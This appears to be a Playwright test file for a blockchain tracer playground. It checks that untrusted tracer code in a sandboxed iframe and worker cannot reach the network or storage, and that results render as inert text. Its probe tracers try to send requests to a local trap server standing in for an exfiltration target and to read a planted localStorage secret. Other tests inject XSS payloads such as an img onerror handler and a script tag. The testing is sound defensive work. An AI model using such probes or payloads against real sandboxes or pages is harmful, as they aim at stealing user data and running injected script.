// Untrusted tracer code in the embedded node: no network, no origin storage, and results rendered as text.
// The sandbox tests build test/e2e/sandbox-harness.html with Vite (under index.html's CSP) and serve the result, so
// createSandboxedNodeWorker runs exactly as in the built app; the last test drives the app itself.
import { expect, test, type Page, type Worker } from '@playwright/test';
import { createServer, type Server } from 'node:http';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { extname, join, normalize } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { AddressInfo } from 'node:net';
import { build } from 'vite';
import appConfig from '../../vite.config.ts';
import { openPlayground, setSource } from './helpers/playground.ts';

const root = fileURLToPath(new URL('../..', import.meta.url));
const mime: Record<string, string> = { '.html': 'text/html', '.js': 'text/javascript', '.css': 'text/css' };

let outDir = '';
let harness: Server;
let harnessUrl = '';
// Every request any tracer manages to send ends up here (a different origin, like a real exfiltration target).
let trap: Server;
let trapUrl = '';
const trapHits: string[] = [];

function listen(server: Server): Promise<string> {
  return new Promise((resolve) =>
    server.listen(0, '127.0.0.1', () =>
      resolve(`http://127.0.0.1:${(server.address() as AddressInfo).port}`),
    ),
  );
}

async function buildHarness(): Promise<string> {
  const dir = mkdtempSync(join(tmpdir(), 'sandbox-harness-'));
  const csp = /<meta\s+http-equiv="Content-Security-Policy"[\s\S]*?\/>/.exec(
    readFileSync(join(root, 'index.html'), 'utf8'),
  );
  if (!csp) throw new Error('index.html has no CSP meta: the harness would not test the app’s policy');
  await build({
    root,
    configFile: false,
    logLevel: 'warn',
    worker: appConfig.worker, // the app's worker bundling (one self-contained node worker script)
    build: {
      target: 'es2022',
      outDir: dir,
      emptyOutDir: true,
      chunkSizeWarningLimit: 6000,
      rollupOptions: { input: join(root, 'test/e2e/sandbox-harness.html') },
    },
    plugins: [{ name: 'app-csp', transformIndexHtml: (html) => html.replace('<!-- CSP -->', csp[0]) }],
  });
  return dir;
}

function serveStatic(dir: string): Server {
  return createServer((req, res) => {
    const path = normalize(decodeURIComponent(new URL(req.url ?? '/', 'http://x').pathname));
    try {
      const body = readFileSync(join(dir, path));
      res.writeHead(200, { 'Content-Type': mime[extname(path)] ?? 'application/octet-stream' });
      res.end(body);
    } catch {
      res.writeHead(404).end();
    }
  });
}

test.beforeAll(async () => {
  test.setTimeout(120_000);
  outDir = await buildHarness();
  harness = serveStatic(outDir);
  harnessUrl = await listen(harness);
  trap = createServer((req, res) => {
    trapHits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' });
    res.end('self.__trapLoaded = true;');
  });
  trapUrl = await listen(trap);
});

test.afterAll(async () => {
  await new Promise((r) => harness?.close(r));
  await new Promise((r) => trap?.close(r));
  if (outDir) rmSync(outDir, { recursive: true, force: true });
});

test.beforeEach(() => {
  trapHits.length = 0;
});

async function openHarness(page: Page): Promise<void> {
  await page.goto(`${harnessUrl}/test/e2e/sandbox-harness.html`);
  await page.waitForFunction(() => document.body.dataset.ready === 'yes');
  // What a user's saved work looks like: endpoints with credentials in the page origin's storage.
  await page.evaluate(() => localStorage.setItem('secret', 'hunter2'));
}

// ES5 (the embedded node checks tracers like geth does). Each probe reports what it got back or what it threw. The
// tracer runs in a fresh QuickJS realm (ECMAScript built-ins and geth's tracer globals only), so none of the worker's
// globals exist there. import() is the one way in that the language itself has: the first step starts it and
// `result` says whether its promise ever settled (the realm runs no promise jobs, so no module loader ever runs).
const probeTracer = (trapUrl: string) => `{
  imported: 'not started',
  step: function () {
    if (this.imported !== 'not started') return;
    var self_ = this;
    try {
      var p = new Function('u', 'return import(u)')(${JSON.stringify(trapUrl)} + '/import.js');
      self_.imported = 'pending ' + Object.prototype.toString.call(p);
      p.then(function () { self_.imported = 'loaded'; }, function (e) { self_.imported = 'rejected ' + e; });
    } catch (e) {
      self_.imported = 'threw ' + (e && e.name);
    }
  },
  result: function () {
    var out = {};
    var url = ${JSON.stringify(trapUrl)};
    function probe(name, f) {
      try {
        var v = f();
        out[name] = v === undefined ? 'undefined' : v === null ? 'null' : Object.prototype.toString.call(v);
      } catch (e) {
        out[name] = 'threw ' + (e && e.name) + ': ' + (e && e.message);
      }
    }
    probe('fetch', function () { return fetch(url + '/fetch'); });
    probe('XMLHttpRequest', function () {
      var x = new XMLHttpRequest(); x.open('GET', url + '/xhr', false); x.send(); return x.responseText;
    });
    probe('importScripts', function () { importScripts(url + '/importScripts.js'); return self.__trapLoaded; });
    probe('indexedDB', function () { return indexedDB.open('secrets'); });
    probe('localStorage', function () { return localStorage.getItem('secret'); });
    probe('caches', function () { return self.caches.keys(); });
    probe('WebSocket', function () { return new WebSocket(url.replace('http', 'ws') + '/ws'); });
    probe('EventSource', function () { return new EventSource(url + '/sse'); });
    probe('sendBeacon', function () { return navigator.sendBeacon(url + '/beacon', 'x'); });
    probe('storage', function () { return navigator.storage.getDirectory(); });
    probe('import', function () { return new Function('u', 'return import(u)')(url + '/import2.js'); });
    probe('origin', function () { return self.origin; });
    out.imported = this.imported;
    out.typeofs = [typeof self, typeof window, typeof globalThis, typeof process, typeof require, typeof console,
      typeof navigator, typeof postMessage, typeof setTimeout, typeof WebAssembly].join(',');
    return out;
  },
  fault: function () {}
}`;

// What the worker itself (not the tracer) still finds after its own lock-down: defence in depth for code that would
// ever run outside the realm.
const workerGlobals = [
  'fetch',
  'XMLHttpRequest',
  'WebSocket',
  'EventSource',
  'importScripts',
  'indexedDB',
  'caches',
  'localStorage',
];

test('a tracer in the sandboxed embedded node finds no network, storage or worker global, and the trace completes', async ({
  page,
}) => {
  const nodeWorkers: import('@playwright/test').Worker[] = [];
  page.on('worker', (w) => {
    if (w.url().startsWith('blob:null/')) nodeWorkers.push(w);
  });
  await openHarness(page);
  // Control: the page itself can reach the trap, so an empty trap below means the tracer sent nothing.
  await page.evaluate((url) => fetch(`${url}/control`).then((r) => r.text()), trapUrl);
  const reply = await page.evaluate(async (tracer) => {
    const node = (window as any).__sandbox.createSandboxedNodeWorker();
    (window as any).__node = node;
    const d = await node.api.demoDefaults();
    const r = await node.api.request({
      jsonrpc: '2.0',
      id: 1,
      method: 'debug_traceCall',
      params: [d.call, 'latest', { tracer, timeout: '5s' }],
    });
    // Anything the tracer started asynchronously gets time to reach the trap.
    await new Promise((res) => setTimeout(res, 1000));
    return { r, sandboxed: node.sandboxed, frames: document.querySelectorAll('iframe').length };
  }, probeTracer(trapUrl));
  expect(reply.sandboxed).toBe(true);
  expect(reply.frames).toBe(1);
  const notDefined = (name: string) => `threw ReferenceError: '${name}' is not defined`;
  expect(reply.r).toEqual({
    jsonrpc: '2.0',
    id: 1,
    result: {
      fetch: notDefined('fetch'),
      XMLHttpRequest: notDefined('XMLHttpRequest'),
      importScripts: notDefined('importScripts'),
      indexedDB: notDefined('indexedDB'),
      localStorage: notDefined('localStorage'), // the page's value stays unread
      caches: notDefined('self'),
      WebSocket: notDefined('WebSocket'),
      EventSource: notDefined('EventSource'),
      sendBeacon: notDefined('navigator'),
      storage: notDefined('navigator'),
      // import() is syntax, so it exists: it returns a promise whose loading job never runs (checked: it never
      // settled by `result`, and the trap below saw no request).
      import: '[object Promise]',
      imported: 'pending [object Promise]',
      origin: notDefined('self'),
      typeofs:
        'undefined,undefined,object,undefined,undefined,undefined,undefined,undefined,undefined,undefined',
    },
  });

  // Defence in depth: the node worker itself (outside the realm) has its network and storage globals removed.
  expect(nodeWorkers).toHaveLength(1);
  const left = await nodeWorkers[0].evaluate(
    (names) => ({
      origin: String(self.origin),
      globals: names.filter((n) => typeof (self as unknown as Record<string, unknown>)[n] !== 'undefined'),
      navigator: ['sendBeacon', 'storage'].filter(
        (n) => typeof (navigator as unknown as Record<string, unknown>)[n] !== 'undefined',
      ),
    }),
    workerGlobals,
  );
  expect(left).toEqual({ origin: 'null', globals: [], navigator: [] });
  await page.evaluate(() => (window as any).__node.terminate());
  expect(await page.evaluate(() => document.querySelectorAll('iframe').length)).toBe(0);
  expect(trapHits).toEqual(['GET /control']);
  expect(await page.evaluate(() => localStorage.getItem('secret'))).toBe('hunter2');
});

// A probe worker WITHOUT the lock-down, run in the same sandbox: shows the iframe's opaque origin and CSP alone
// already stop the network and storage.
const rawProbeWorker = (trapUrl: string) => `
const url = ${JSON.stringify(trapUrl)};
const settle = async (f) => { try { const v = await f(); return 'got ' + typeof v; } catch (e) { return 'threw ' + e.name; } };
self.addEventListener('message', async (e) => {
  if (!e.data || e.data.type !== 'sandbox-port') return;
  self.postMessage({ type: 'sandbox-worker-ready' });
  const out = {
    origin: String(self.origin),
    fetch: await settle(() => fetch(url + '/fetch')),
    XMLHttpRequest: await settle(() => { const x = new XMLHttpRequest(); x.open('GET', url + '/xhr', false); x.send(); return x.responseText; }),
    indexedDB: await settle(() => new Promise((ok, no) => { const r = indexedDB.open('secrets'); r.onsuccess = ok; r.onerror = () => no(r.error); })),
    caches: await settle(() => caches.keys()),
    import: await settle(() => import(url + '/import.js')),
    eval: await settle(() => new Function('return 1')()),
  };
  e.data.port.postMessage(out);
});`;

test('the sandbox alone (opaque origin + CSP, no lock-down) stops network and storage but allows eval', async ({
  page,
}) => {
  await openHarness(page);
  const out = await page.evaluate(async (code) => {
    const s = (window as any).__sandbox.startSandboxedWorker(Promise.resolve(code));
    await s.ready;
    const result = await new Promise((resolve) => {
      s.port.onmessage = (e: MessageEvent) => resolve(e.data);
    });
    await new Promise((res) => setTimeout(res, 500));
    s.terminate();
    return result;
  }, rawProbeWorker(trapUrl));
  expect(out).toEqual({
    origin: 'null',
    fetch: 'threw TypeError', // "Failed to fetch": refused by connect-src 'none'
    XMLHttpRequest: 'threw NetworkError',
    indexedDB: 'threw SecurityError',
    caches: 'threw ReferenceError', // not exposed to an opaque origin
    import: 'threw TypeError',
    eval: 'got number',
  });
  expect(trapHits).toEqual([]);
});

test('a worker that fails to start rejects ready with a clear message (calls then reject too: gateRemote unit test)', async ({
  page,
}) => {
  await openHarness(page);
  const out = await page.evaluate(async () => {
    const s = (window as any).__sandbox.startSandboxedWorker(Promise.resolve('throw new Error("boom");'));
    const ready = await s.ready.then(
      () => 'ready',
      (e: Error) => e.message,
    );
    s.terminate();
    return { ready, frames: document.querySelectorAll('iframe').length };
  });
  expect(out).toEqual({
    ready: expect.stringMatching(/^Embedded node sandbox: The embedded node worker failed: .*boom/),
    frames: 0,
  });
});

test('terminate() removes the iframe mid-trace, and a new sandboxed node serves again', async ({ page }) => {
  // Playwright sees the blob worker inside the sandbox iframe: it must really end, not just lose its iframe.
  const workers: { url: string; closed: boolean }[] = [];
  page.on('worker', (w) => {
    const seen = { url: w.url(), closed: false };
    workers.push(seen);
    w.on('close', () => (seen.closed = true));
  });
  await openHarness(page);
  const reply = await page.evaluate(async () => {
    const create = (window as any).__sandbox.createSandboxedNodeWorker;
    const first = create();
    const d = await first.api.demoDefaults();
    const endless =
      '{ step: function () { while (true) {} }, result: function () { return 1; }, fault: function () {} }';
    const hanging = first.api.request({
      jsonrpc: '2.0',
      id: 1,
      method: 'debug_traceCall',
      params: [d.call, 'latest', { tracer: endless, timeout: '60s' }],
    });
    const settled = await Promise.race([
      hanging.then(() => 'answered'),
      new Promise((r) => setTimeout(() => r('hung'), 1500)),
    ]);
    first.terminate();
    const framesAfterTerminate = document.querySelectorAll('iframe').length;
    const second = create();
    const r = await second.api.request({
      jsonrpc: '2.0',
      id: 2,
      method: 'debug_traceCall',
      params: [
        d.call,
        'latest',
        { tracer: '{ result: function (ctx) { return ctx.type; }, fault: function () {} }' },
      ],
    });
    second.terminate();
    return { settled, framesAfterTerminate, r };
  });
  expect(reply).toEqual({
    settled: 'hung',
    framesAfterTerminate: 0,
    r: { jsonrpc: '2.0', id: 2, result: 'CALL' },
  });
  expect(workers.map((w) => w.url.slice(0, 10))).toEqual(['blob:null/', 'blob:null/']);
  await expect.poll(() => workers.map((w) => w.closed)).toEqual([true, true]);
});

test('start-up cost of the sandboxed node against a direct worker (informational, not asserted)', async ({
  page,
}) => {
  await openHarness(page);
  const times = await page.evaluate(async () => {
    const s = (window as any).__sandbox;
    const direct = async () => {
      const t = performance.now();
      const w = new Worker(s.nodeWorkerUrl, { type: 'module' });
      await s.wrap(w).demoDefaults();
      w.terminate();
      return performance.now() - t;
    };
    const sandboxed = async () => {
      const t = performance.now();
      const n = s.createSandboxedNodeWorker();
      await n.api.demoDefaults();
      n.terminate();
      return performance.now() - t;
    };
    const out: { direct: number[]; sandboxed: number[] } = { direct: [], sandboxed: [] };
    for (let i = 0; i < 3; i++) {
      out.direct.push(Math.round(await direct()));
      out.sandboxed.push(Math.round(await sandboxed()));
    }
    return out;
  });
  console.log(`embedded node start-up to first answer, ms: ${JSON.stringify(times)}`);
  expect(times.sandboxed).toHaveLength(3);
});

test('node responses and tracer results are shown as text: markup in a result executes nothing', async ({
  page,
}) => {
  await openPlayground(page);
  await setSource(
    page,
    '{\n  result: function () {\n    return \'<img src=x onerror="window.__xss=1"><script>window.__xss=2</script>\';\n  },\n  fault: function () {}\n}\n',
  );
  await page.getByRole('tab', { name: 'Request' }).click();
  await page.getByTestId('method-select').selectOption('debug_traceCall');
  await page.getByTestId('send').click();
  await expect(page.getByTestId('result-json')).toContainText('<img src=x onerror=', { timeout: 30_000 });
  await page.getByTestId('result-json').getByRole('button', { name: 'text' }).click();
  await expect(page.getByTestId('result-json')).toContainText('<script>window.__xss=2</script>');
  await page.waitForTimeout(500); // an injected onerror would fire once the image fails to load
  expect(await page.evaluate(() => (window as any).__xss)).toBeUndefined();
  expect(await page.getByTestId('result-json').locator('img, script').count()).toBe(0);

  // The same markup in a tracer error: the node's error message is shown as text too.
  await setSource(
    page,
    '{\n  result: function () {\n    throw new Error(\'<img src=x onerror="window.__xss=3"><b>bold</b>\');\n  },\n  fault: function () {}\n}\n',
  );
  await page.getByRole('tab', { name: 'Request' }).click();
  await page.getByTestId('send').click();
  await expect(page.getByTestId('result-error')).toContainText(
    '<img src=x onerror="window.__xss=3"><b>bold</b>',
    {
      timeout: 30_000,
    },
  );
  await page.waitForTimeout(500);
  expect(await page.evaluate(() => (window as any).__xss)).toBeUndefined();
  expect(await page.getByTestId('result-error').locator('img, b').count()).toBe(0);
});

test('the app runs its embedded node in the sandbox iframe, and tracer code sees none of its globals', async ({
  page,
}) => {
  const nodeWorkers: import('@playwright/test').Worker[] = [];
  page.on('worker', (w) => {
    if (w.url().startsWith('blob:null/')) nodeWorkers.push(w);
  });
  await openPlayground(page);
  await setSource(
    page,
    "{\n  result: function (ctx) {\n    return [typeof self, typeof window, typeof process, typeof fetch, ctx.type, Object.keys(console).sort().join()].join(' ');\n  },\n  fault: function () {}\n}\n",
  );
  await page.getByRole('tab', { name: 'Request' }).click();
  await page.getByTestId('method-select').selectOption('debug_traceCall');
  await page.getByTestId('send').click();
  // The page's own node runs every tracer as a debugging run: `console` is the realm's printing object (five
  // functions that hand a formatted line to the host), not the worker's console.
  const expected = 'undefined undefined undefined undefined CALL debug,error,info,log,warn';
  await expect(page.getByTestId('result-json')).toContainText(expected, { timeout: 30_000 });
  expect(await page.evaluate(() => (window as any).__playground.store.get().result.value)).toBe(expected);
  await expect(page.locator('iframe[sandbox="allow-scripts"]')).toHaveCount(1);
  // The worker that ran it lives in that iframe: a blob worker of an opaque origin.
  expect(nodeWorkers).toHaveLength(1);
  expect(await nodeWorkers[0].evaluate(() => String(self.origin))).toBe('null');
});
